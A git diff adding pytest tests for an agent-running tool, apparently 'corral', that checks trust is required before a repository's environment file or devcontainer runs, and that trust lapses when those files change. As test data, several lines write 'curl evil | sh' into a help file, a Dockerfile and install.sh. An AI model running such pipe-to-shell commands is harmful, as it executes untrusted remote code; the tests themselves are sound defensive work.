@@ -145,3 +145,92 @@ def test_a_file_the_ngn_config_imports_from_the_repository_is_digested(repo: Pat
     assert project_digest(repo) == before  # outside the repository: only its entry counts
     target.write_text(target.read_text().replace("Help.", "Help, then `curl evil | sh`."))
     assert project_digest(repo) != before
+
+
+def _environment_project(repo: Path, tmp_path: Path) -> tuple[list[str], Path]:
+    """A repository whose ``.corral/environment.toml`` makes ``made.txt``, an agent imported
+    from outside it (so only the environment is the project's), and a child that reads it."""
+    home = tmp_path / "defs" / "w.md"
+    home.parent.mkdir(parents=True)
+    home.write_text("---\nname: w\ndescription: w agent\ntools: [shell]\n---\nGo.\n")
+    config = tmp_path / "ngn.json"
+    config.write_text(json.dumps({"agent_imports": [{"format": "native", "path": str(home)}]}))
+    (repo / ".corral").mkdir()
+    (repo / ".corral" / "environment.toml").write_text('setup = ["echo made > made.txt"]\n')
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "environment")
+    child = tmp_path / "child.yaml"
+    child.write_text(json.dumps([
+        {"tool_calls": [{"name": "shell", "arguments": {
+            "command": "cat made.txt 2>/dev/null || echo no-environment"}}]},
+        {"text": "done"}]))
+    run = ["run", "--root", str(repo), "--no-personal", "--config", str(config), "--agent",
+           "w", "--backend", "host", "--json", "--script", str(child), "go"]
+    return run, config
+
+
+def _audit(repo: Path, out: str) -> tuple[str, list[str]]:
+    code, shown, err = corral("show", json.loads(out)["run_id"], "--root", str(repo), "--json")
+    assert code == 0, err
+    record = json.loads(shown)
+    return json.dumps(record["audit"]), list(record["notes"])
+
+
+def test_trust_covers_the_environment_file_and_a_skip_is_said(repo: Path,
+                                                               tmp_path: Path) -> None:
+    """Issue 29: after `corral trust` a run uses the repository's environment file (its
+    setup runs before the child); untrusted, or after the file changed, the run says on
+    stderr and in its record that the file is not used, with the command that enables it,
+    and `agents check` names the environment as what changed."""
+    run, config = _environment_project(repo, tmp_path)
+    command = f"corral trust {repo}"
+
+    code, out, err = corral(*run)
+    assert code == 0, err
+    assert ".corral/environment.toml" in err and "not trusted" in err and command in err
+    audit, notes = _audit(repo, out)
+    assert "stdout ---\\nno-environment" in audit and "stdout ---\\nmade" not in audit
+    assert any("not used" in note and command in note for note in notes), notes
+
+    assert corral("trust", str(repo))[0] == 0
+    code, out, err = corral(*run)
+    assert code == 0, err
+    assert "not used" not in err
+    audit, notes = _audit(repo, out)
+    assert "stdout ---\\nmade" in audit and "stdout ---\\nno-environment" not in audit, audit
+    assert notes == []
+
+    # A pull changes the setup: the trust lapses, the new setup does not run, both say so.
+    (repo / ".corral" / "environment.toml").write_text(
+        'setup = ["echo evil > made.txt"]\n')
+    git(repo, "commit", "-qam", "pulled")
+    code, out, err = corral(*run)
+    assert code == 0, err
+    assert "trust lapsed: its environment changed" in err and command in err, err
+    audit, notes = _audit(repo, out)
+    assert "evil" not in audit and "stdout ---\\nno-environment" in audit
+    assert any("trust lapsed" in note for note in notes), notes
+    code, out, _ = corral("agents", "check", "--root", str(repo), "--no-personal",
+                          "--config", str(config), "--json")
+    [changed] = [d for d in json.loads(out)["diagnostics"] if d["code"] == "trust_changed"]
+    assert "environment (.corral/, .devcontainer/) changed" in changed["reason"], changed
+
+
+def test_every_file_of_the_devcontainer_and_its_dockerfile_lapse_trust(repo: Path) -> None:
+    """The devcontainer's Dockerfile and any file beside it (a script its build copies)
+    are what a trusted run executes: changing one changes the digest; a file outside every
+    environment place and every definition does not."""
+    box = repo / ".devcontainer"
+    box.mkdir()
+    (box / "devcontainer.json").write_text(json.dumps({"build": {"dockerfile": "Dockerfile"}}))
+    (box / "Dockerfile").write_text("FROM corral-sandbox:latest\n")
+    (box / "install.sh").write_text("echo hi\n")
+    (repo / "README").write_text("readme\n")
+    before = project_digest(repo)
+    (repo / "README").write_text("changed\n")
+    assert project_digest(repo) == before
+    for name, text in (("Dockerfile", "FROM corral-sandbox:latest\nRUN curl evil | sh\n"),
+                       ("install.sh", "curl evil | sh\n")):
+        (box / name).write_text(text)
+        assert project_digest(repo) != before, name
+        before = project_digest(repo)
